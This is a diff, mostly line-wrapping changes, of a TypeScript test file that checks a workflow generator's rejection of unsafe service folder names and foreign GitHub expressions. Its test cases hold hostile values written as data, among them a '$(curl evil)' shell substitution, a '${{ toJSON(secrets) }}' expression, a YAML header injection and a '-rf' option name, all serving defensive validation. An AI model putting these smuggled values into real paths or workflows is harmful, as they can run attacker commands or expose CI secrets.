@@ -13,7 +13,8 @@ import { compileTree, diagnosticLines, service, yamlDocuments } from '../../supp
  * GitHub expressions paved did not make.
  */
 
-const HINT = '  hint: rename the folder to letters, digits, ".", "_" and "-" (e.g. services/orders): its path is written into workflows, the Docker build context and every generated file';
+const HINT =
+  '  hint: rename the folder to letters, digits, ".", "_" and "-" (e.g. services/orders): its path is written into workflows, the Docker build context and every generated file';
 
 function rejectedFolder(folder: string): { lines: string[]; errors: string } {
   const { result, errors } = compileTree({ [`${folder}/service.yaml`]: service('api') });
@@ -26,7 +27,12 @@ const show = (text: string): string => JSON.stringify(text).replace(/[^\x20-\x7e
 describe('service folder names', () => {
   const cases: ReadonlyArray<readonly [string, string, string, string]> = [
     // what, folder, the file as printed, the problem
-    ['a line break that would continue the header', 'services/api\n---\nkind: Secret', 'services/api·---·kind: Secret', `the folder name ${show('api\n---\nkind: Secret')} holds "\\n"`],
+    [
+      'a line break that would continue the header',
+      'services/api\n---\nkind: Secret',
+      'services/api·---·kind: Secret',
+      `the folder name ${show('api\n---\nkind: Secret')} holds "\\n"`,
+    ],
     ['a GitHub expression', 'services/${{ toJSON(secrets) }}', 'services/${{ toJSON(secrets) }}', 'the folder name "${{ toJSON(secrets) }}" holds "$"'],
     ['a shell substitution', 'services/$(curl evil)', 'services/$(curl evil)', 'the folder name "$(curl evil)" holds "$"'],
     ['a leading dash, read as an option', 'services/-rf', 'services/-rf', 'the folder name "-rf" starts with "-"'],
@@ -50,7 +56,9 @@ describe('service folder names', () => {
   for (const [what, folder, printed, problem] of cases) {
     it(`rejects a folder with ${what}, at name:`, () => {
       const { lines, errors } = rejectedFolder(folder);
-      expect(lines).toEqual([`${printed}/service.yaml:3:1: error SPEC.FOLDER_PATH the folder ${show(folder)} of this service.yaml is not a portable path: ${problem}`]);
+      expect(lines).toEqual([
+        `${printed}/service.yaml:3:1: error SPEC.FOLDER_PATH the folder ${show(folder)} of this service.yaml is not a portable path: ${problem}`,
+      ]);
       expect(errors).toContain(HINT);
       // Nothing the CLI prints holds the raw line break, carriage return or escape.
       expect(errors).not.toMatch(/[\r\u001b\u202e]/);
@@ -66,13 +74,22 @@ describe('service folder names', () => {
 
   it('rejects a folder path longer than 200 characters', () => {
     const folder = ['x'.repeat(70), 'y'.repeat(70), 'z'.repeat(70)].join('/');
-    expect(rejectedFolder(folder).lines).toEqual([`${folder}/service.yaml:3:1: error SPEC.FOLDER_PATH the folder "${'x'.repeat(57)}..." of this service.yaml is not a portable path: it is 212 characters long, over 200`]);
+    expect(rejectedFolder(folder).lines).toEqual([
+      `${folder}/service.yaml:3:1: error SPEC.FOLDER_PATH the folder "${'x'.repeat(57)}..." of this service.yaml is not a portable path: it is 212 characters long, over 200`,
+    ]);
   });
 
   it('reports every hostile folder in one pass, and no valid one', () => {
-    const { result, errors } = compileTree({ 'services/good/service.yaml': service('good'), 'services/b d/service.yaml': service('bad'), 'services/-x/service.yaml': service('worse') });
+    const { result, errors } = compileTree({
+      'services/good/service.yaml': service('good'),
+      'services/b d/service.yaml': service('bad'),
+      'services/-x/service.yaml': service('worse'),
+    });
     expect(result.files).toEqual([]);
-    expect(diagnosticLines(errors).map((line) => line.slice(0, line.indexOf(' error')))).toEqual(['services/-x/service.yaml:3:1:', 'services/b d/service.yaml:3:1:']);
+    expect(diagnosticLines(errors).map((line) => line.slice(0, line.indexOf(' error')))).toEqual([
+      'services/-x/service.yaml:3:1:',
+      'services/b d/service.yaml:3:1:',
+    ]);
   });
 
   it('accepts a portable folder and writes it as is into the header, the paths filter and the build context', () => {
@@ -81,7 +98,10 @@ describe('service folder names', () => {
     expect(errors).toBe('');
     const workflow = tree.get('.github/workflows/paved-api.yml')!;
     expect(workflow.split('\n')[0]).toBe(`# ${['Code', 'generated', 'by', 'paved'].join(' ')} from ${folder}/service.yaml. DO NOT EDIT.`);
-    const parsed = yamlDocuments(workflow)[0] as { on: { push: { paths: string[] } }; jobs: Record<string, { steps: Array<{ with?: Record<string, unknown> }> }> };
+    const parsed = yamlDocuments(workflow)[0] as {
+      on: { push: { paths: string[] } };
+      jobs: Record<string, { steps: Array<{ with?: Record<string, unknown> }> }>;
+    };
     expect(parsed.on.push.paths).toContain(`${folder}/**`);
     const contexts = Object.values(parsed.jobs).flatMap((job) => job.steps.map((step) => step.with?.context).filter((c) => c !== undefined));
     expect(contexts.length).toBeGreaterThan(0);
@@ -105,7 +125,11 @@ describe('the workflow renderer, behind validation', () => {
         {
           a: '${{ github.sha }}',
           b: ['pr-${{ github.event.pull_request.number }}-${{ github.sha }}'],
-          c: { d: "${{ github.event_name == 'pull_request' }}", e: '${{ github.event.pull_request.number || github.ref }}', f: '${{ secrets.REGISTRY_PASSWORD }}' },
+          c: {
+            d: "${{ github.event_name == 'pull_request' }}",
+            e: '${{ github.event.pull_request.number || github.ref }}',
+            f: '${{ secrets.REGISTRY_PASSWORD }}',
+          },
         },
         'w.yml',
       ),
@@ -122,7 +146,9 @@ describe('the workflow renderer, behind validation', () => {
     ['an injected literal', "${{ github.ref == 'a' }}' || true }}${{ x"],
   ] as const) {
     it(`refuses ${what} anywhere in a workflow`, () => {
-      expect(() => checkExpressions({ jobs: { a: { steps: [{ with: { context: text } }] } } }, 'w.yml')).toThrow(`workflow renderer: w.yml would carry a GitHub expression paved did not write: ${JSON.stringify(text)}`);
+      expect(() => checkExpressions({ jobs: { a: { steps: [{ with: { context: text } }] } } }, 'w.yml')).toThrow(
+        `workflow renderer: w.yml would carry a GitHub expression paved did not write: ${JSON.stringify(text)}`,
+      );
     });
   }
 });
